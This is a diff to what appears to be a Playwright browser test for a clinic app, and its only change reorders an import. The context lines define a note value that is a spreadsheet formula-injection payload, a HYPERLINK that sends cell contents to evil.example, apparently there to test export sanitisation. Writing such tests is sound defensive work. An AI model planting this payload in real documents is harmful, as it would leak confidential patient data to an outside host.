@@ -15,12 +15,12 @@ import urllib.request
 from pathlib import Path
 
 import pytest
-from browser_support import settled, sign_in
 from playwright.sync_api import Page, expect
 
 from logic.auth import accounts, audit
 from logic.settings import ClinicSettings
 from logic.storage import open_storage
+from tests.browser.browser_support import settled, sign_in
 
 USER, PASSWORD = "thera", "therapist pass 1"
 NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
